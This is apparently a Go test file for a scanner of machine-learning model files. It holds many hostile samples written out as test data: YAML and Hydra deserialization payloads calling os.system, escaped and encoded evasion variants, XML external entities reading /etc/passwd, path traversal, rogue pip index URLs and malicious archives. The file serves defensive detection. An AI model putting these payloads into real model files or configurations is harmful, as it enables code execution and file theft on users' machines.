package scan_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/hallmark-ml/hallmark/sandbox/scan"
)

// Files that the usual libraries read beside the weights, or in their place.
func TestConfigurationsThatCall(t *testing.T) {
	t.Parallel()

	const call, remote = "config-call", "config-remote-code"
	tests := map[string]struct{ name, text, rule string }{
		"YAML, Python":                   {"config.yaml", "a: !!python/object/apply:os.system ['id']\n", call},
		"YAML, Python, new":              {"config.yml", "!!python/object/new:subprocess.Popen [[id]]", call},
		"YAML, Python, in a list":        {"x.yaml", "[1,!!python/object/apply:os.system [id]]", call},
		"YAML, Python, module":           {"x.yaml", "a: !!python/module:evil", call},
		"YAML, escaped":                  {"x.yaml", "a: !!pyth%6Fn/object/apply:os.system ['id']\n", call},
		"YAML, verbatim":                 {"x.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['id']\n", call},
		"YAML, by a directive":           {"x.yaml", "%TAG !e! tag:yaml.org,2002:py\n---\na: !e!thon/object/apply:os.system ['id']\n", call},
		"YAML, Java":                     {"model.yaml", "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n", call},
		"YAML, Ruby":                     {"x.yml", "--- !ruby/object:Gem::Installer\ni: x\n--- !!ruby/object:Gem::Installer\n", call},
		"YAML, numpy's loader":           {"x.yaml", "a: !!python/object/apply:numpy.load [x]\n", call},
		"Hydra":                          {"config.yaml", "model:\n  _target_: os.system\n  command: id\n", call},
		"Hydra, quoted":                  {"config.yaml", "model: {\"_target_\": \"builtins.eval\", _args_: [\"1\"]}\n", call},
		"Hydra, second in a line":        {"config.yaml", "{a: {_target_: torch.nn.Linear}, b: {_target_: subprocess.Popen}}\n", call},
		"Hydra, behind a comment's mark": {"config.yaml", "{a: \"#\", _target_: os.system}\n", call},
		"Hydra, on the next line":        {"config.yaml", "_target_:\n    os.system\n", call},
		"Hydra, folded":                  {"config.yaml", "_target_: >-\n    os.system\n", call},
		"Hydra, anchor":                  {"config.yaml", "_target_: &x os.system\n", call},
		"Hydra, alias":                   {"config.yaml", "_target_: *x\n", call},
		"Hydra, escape":                  {"config.yaml", "_target_: \"os.sys\\x74em\"\n", call},
		"Hydra, escaped name":            {"config.yaml", "\"_targ\\x65t_\": os.system\n", call},
		"Hydra, interpolated":            {"config.yaml", "_target_: ${a}.system\n", call},
		"Hydra, loader":                  {"config.yaml", "_target_: torch.hub.load\n", call},
		"Hydra in JSON":                  {"model.json", `{"net":{"_target_":"os.system"}}`, call},
		"Hydra in JSON, twice":           {"model.json", `{"a":1,"a":2,"net":{"_target_":"os.system"}}`, call},
		"diffusion":                      {"v1-inference.yaml", "model:\n  target: os.system\n  params: {}\n", call},
		"diffusion, escape":              {"v1-inference.yaml", "target: \"os.sys\\u0074em\"\n", call},
		"SpeechBrain":                    {"hyperparams.yaml", "x: !apply:os.system\n  - id\n", call},
		"SpeechBrain, new":               {"hyperparams.yaml", "x: !new:subprocess.Popen [id]\n", call},
		"SpeechBrain, own helper":        {"hyperparams.yaml", "x: !apply:speechbrain.utils.superpowers.run_shell [id]\n", call},
		"SpeechBrain, include":           {"hyperparams.yaml", "x: !include:../../../etc/passwd\n", "metadata-path"},
		"MONAI":                          {"inference.json", `{"imports":["$import os"],"x":"$os.system('id')"}`, call},
		"MLflow, loader":                 {"MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n", remote},
		"MLflow, code":                   {"MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n", remote},
		"remote code deeper":             {"config.json", `{"text_config":{"auto_map":{"AutoModel":"x/y--modeling.M"}}}`, remote},
		"remote code of layers":          {"config.json", `{"attn_implementation":"evil/flash"}`, remote},
		"adapter's library":              {"adapter_config.json", `{"auto_mapping":{"base_model_class":"X","parent_library":"antigravity"}}`, remote},
		"adapter's megatron":             {"adapter_config.json", `{"megatron_core":"evil"}`, remote},
		"sentence module":                {"modules.json", `[{"idx":0,"name":"0","path":"","type":"os.system"}]`, remote},
		"sentence module, deep":          {"modules.json", `[{"idx":0,"type":"evil.deep.Model"}]`, remote},
		"diffusion's library":            {"model_index.json", `{"_class_name":"X","unet":["subprocess","Popen"]}`, remote},
		"shard outside":                  {"model.safetensors.index.json", `{"weight_map":{"a":"../../../tmp/evil.bin"}}`, "metadata-path"},
		"zarr with pickles":              {"zarr.json", `{"codecs":[{"name":"numcodecs.pickle"}]}`, call},
		"zarr with pickles, version 2":   {".zarray", `{"filters":[{"id":"pickle"}]}`, call},
		"exported program":               {"model.json", `{"sizes":[{"as_expr":{"expr_str":"__import__('os').system('id')"}}]}`, call},
		"Keras as JSON":                  {"model.json", `{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","config":{}}]}}`, "keras-lambda"},
		"skops":                          {"schema.json", `{"__class__":"system","__module__":"os","__loader__":"FunctionNode","content":{}}`, "skops-type"},
		"R":                              {"model.rds", "A\n3\n262657\n197888\n5\nUTF-8\n5\n", "unknown-format"},
		"R, several":                     {"model.rda", "RDA3\nA\n3\n262657\n197888\n5\nUTF-8\n", "unknown-format"},
		"XML entity":                     {"model.pmml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", "xml-entity"},
		"XML document type":              {"model.xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://x/y.dtd\"><a/>", "xml-entity"},
		"XML behind a long comment":      {"model.xml", "<!--" + strings.Repeat(" ", 70000) + "--><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///x\">]><a>&x;</a>", "cannot-parse"},
		"saved model as text":            {"saved_model.pbtxt", "meta_graphs { graph_def { node { name: \"x\" op: \"ReadFile\" } } }", "savedmodel-operation"},
		"saved model as text, in parts":  {"saved_model.pbtxt", "node { op: 'Read' # x\n \"File\" }", "savedmodel-operation"},
		"saved model as text, escaped":   {"saved_model.pbtxt", "node { op: \"Read\\106ile\" }", "savedmodel-operation"},
		"Caffe":                          {"deploy.prototxt", "layer { type: \"Python\" python_param { module: \"os\" layer: \"x\" } }", remote},
		"runs where it lies":             {".Rprofile", "system('id')\n", "script"},
		"shortcut":                       {"README.url", "[InternetShortcut]\nURL=file://x/y.exe\n", "program"},
		"another index":                  {"requirements.txt", "--index-url https://evil.example/simple\ntorch\n", "requirements-source"},
		"another index, broken":          {"requirements.txt", "--index-\\\nurl https://evil.example/simple\ntorch\n", "requirements-source"},
		"another list":                   {"requirements.txt", "-r https://evil.example/r.txt\n", "requirements-source"},
		"another index for conda":        {"conda.yaml", "dependencies:\n- pip:\n  - --extra-index-url https://evil.example/simple\n  - torch\n", "requirements-source"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			got, found := verdictOf(t, tt.name, tt.text)
			require.Contains(t, found, tt.rule)
			require.NotEqual(t, scan.Safe, got, "%v", found)
		})
	}
}

// What the rules for configurations must not stop.
func TestOrdinaryConfigurations(t *testing.T) {
	t.Parallel()

	tests := map[string][2]string{
		"YAML":              {"config.yaml", "# !!python/object/apply:os.system\na: !!float 1\nb: !!python/tuple [1, 2]\nc: \"wow !! see\"\nd: 'x'\ntext: |\n  Hello! It's me!!! !\n"},
		"YAML of numpy":     {"log.yaml", "a: !!python/object/apply:numpy.core.multiarray.scalar\n- !!python/object/apply:numpy.dtype\n  args: [f8]\n- !!binary |\n  AAAA\nb: !!python/name:torch.float32\n"},
		"Hydra":             {".hydra-config.yaml", "model:\n  _target_: src.models.mnist.MNISTLitModule\n  optimizer:\n    _target_: torch.optim.Adam\n    _partial_: true\ntarget: label\n"},
		"NeMo":              {"model_config.yaml", "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"},
		"diffusion":         {"v1-inference.yaml", "model:\n  base_learning_rate: 1.0e-04\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n"},
		"SpeechBrain":       {"hyperparams.yaml", "seed: 1\n__set_seed: !apply:torch.manual_seed [!ref <seed>]\nmodel: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN\nact: !name:torch.nn.LeakyReLU\n"},
		"MLflow":            {"MLmodel", "flavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"},
		"conda":             {"conda.yaml", "channels:\n- defaults\ndependencies:\n- python=3.10\n- pip:\n  - mlflow==2.1\n  - --extra-index-url https://download.pytorch.org/whl/cu118\n"},
		"infinity":          {"config.json", `{"time_step_limit":[0.0, Infinity],"a":[NaN,-Infinity],"b":"NaN"}`},
		"sentence modules":  {"modules.json", `[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"}]`},
		"diffusion's parts": {"model_index.json", `{"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"safety_checker":["stable_diffusion","StableDiffusionSafetyChecker"],"x":[null,null]}`},
		"adapter":           {"adapter_config.json", `{"megatron_core":"megatron.core","auto_mapping":{"base_model_class":"X","parent_library":"transformers.models.llama"}}`},
		"shards":            {"model.safetensors.index.json", `{"metadata":{"total_size":1},"weight_map":{"a":"model-00001-of-00002.safetensors"}}`},
		"MONAI":             {"inference.json", `{"device":"$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')","net":{"_target_":"UNet"}}`},
		"exported program":  {"model.json", `{"expr_str":"2*s0 + Mod(s1, 8)"}`},
		"skops":             {"schema.json", `{"__class__":"LogisticRegression","__module__":"sklearn.linear_model._logistic","__loader__":"ObjectNode","content":{"__class__":"dict","__module__":"builtins","__loader__":"DictNode"}}`},
		"zarr":              {"zarr.json", `{"codecs":[{"name":"bytes"},{"name":"zstd"}]}`},
		"PMML":              {"model.pmml", "<?xml version=\"1.0\"?>\n<PMML xmlns=\"http://www.dmg.org/PMML-4_4\" version=\"4.4\"><Header/></PMML>"},
		"graph":             {"graph.pbtxt", "node { name: \"x\" op: \"MatMul\" attr { key: \"T\" value { type: DT_FLOAT } } }"},
		"Caffe":             {"deploy.prototxt", "layer { name: 'a' type: \"Convolution\" }"},
		"packages":          {"requirements.txt", "torch==2.1 \\\n  --hash=sha256:00\n-r base.txt\n--index-url https://pypi.org/simple\n"},
		"Keras as JSON":     {"model.json", `{"class_name":"Sequential","config":{"name":"s","layers":[{"class_name":"Dense","config":{"units":3,"activation":"relu"}}]}}`},
		"data":              {"data.json", `[{"target":"os.system","text":"$10 subprocess"},{"target":"a","target":"b"}]`},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			got, found := verdictOf(t, tt[0], tt[1])
			require.Equal(t, scan.Safe, got, "%v", found)
		})
	}
}

// Archives whose reader runs Python code in them, and members that are none of what their place says.
func TestArchivesThatRunCode(t *testing.T) {
	t.Parallel()

	evil := string(torchZip(t, evalP4))
	dtype := string(npyFile("{'descr': [('a', 'object')], 'fortran_order': False, 'shape': (1,), }\n", 0)) + evalP4
	tests := map[string]struct {
		name, data, rule string
	}{
		"package of torch":             {"x.pt", string(writeZip(t, [2]string{"p/.data/extern_modules", "sys\n"}, [2]string{"p/collections.py", "x = 1\n"}, [2]string{"p/model/model.pkl", dictP2})), "archive-code"},
		"script of torch":              {"x.pt", string(writeZip(t, [2]string{"p/data.pkl", dictP2}, [2]string{"p/constants.pkl", dictP2}, [2]string{"p/code/__torch__.py", "def forward(self): pass\n"})), "archive-code"},
		"archive of TorchServe":        {"x.mar", string(writeZip(t, [2]string{"MAR-INF/MANIFEST.json", "{}"}, [2]string{"serve.py", "x = 1\n"})), "archive-code"},
		"checkpoint as tensor data":    {"x.zip", string(writeZip(t, [2]string{"m/data.pkl", dictP2}, [2]string{"m/data/model.pt", evil})), "pickle-global"},
		"configuration in an archive":  {"x.zip", string(writeZip(t, [2]string{"m/config.json", `{"auto_map":{"AutoModel":"a/b--c.D"}}`})), "config-remote-code"},
		"configuration at its root":    {"x.zip", string(writeZip(t, [2]string{"config.json", `{"auto_map":{"AutoModel":"a/b--c.D"}}`})), "config-remote-code"},
		"YAML in an archive":           {"x.nemo", string(writeZip(t, [2]string{"model_config.yaml", "_target_: os.system\n"})), "config-call"},
		"skops":                        {"x.skops", string(writeZip(t, [2]string{"schema.json", `{"__class__":"Popen","__module__":"subprocess","__loader__":"ObjectNode"}`})), "skops-type"},
		"exported program":             {"x.pt2", string(writeZip(t, [2]string{"m/models/model.json", `{"expr_str":"open('/etc/passwd')"}`})), "config-call"},
		"record of objects":            {"x.npy", dtype, "cannot-parse"},
		"record of objects, in a file": {"x.npz", string(writeZip(t, [2]string{"a.npy", dtype})), "cannot-parse"},
		"record with a pickle":         {"x.npy", string(npyFile("{'descr': [('a', '<f4'), ('b', '|O', (2,))], 'fortran_order': False, 'shape': (1,), }\n", 0)) + evalP4, "pickle-global"},
		"zip in zip in zip":            {"x.zip", string(writeZip(t, [2]string{"a.zip", string(writeZip(t, [2]string{"b.zip", evil}))})), "pickle-global"},
	}
	for name, tt := range tests {
		res := scanNamed(t, tt.name, tt.data)
		require.Contains(t, rules(res), tt.rule, "%s: %v", name, res.Findings)
		require.NotEqual(t, scan.Safe, scan.Judge("p", res.Format, res.Findings).Verdict, name)
	}
	record := string(npyFile("{'descr': [('x [m]', '<f4'), (('t', 'b'), [('c', '|S5'), ('d', '<i8', (2, 2))])], 'fortran_order': False, 'shape': (1,), }\n", 41))
	require.Empty(t, scanNamed(t, "x.npy", record).Findings)
}
